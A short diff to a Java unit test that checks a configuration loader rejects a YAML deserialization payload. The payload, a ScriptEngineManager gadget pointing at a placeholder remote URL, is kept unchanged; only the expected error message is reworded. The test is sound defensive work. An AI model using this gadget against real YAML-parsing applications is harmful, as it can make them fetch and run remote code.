@@ -72,7 +72,7 @@ class UntidyThresholdsTest {
         assertThatThrownBy(() -> read("kvm: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://192.0.2.1/']]"))
                 .isInstanceOf(LabConfigurationException.class)
                 .hasMessage(
-                        "t.yaml:1: no YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager");
+                        "t.yaml:1: not valid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager");
     }
 
     @Test
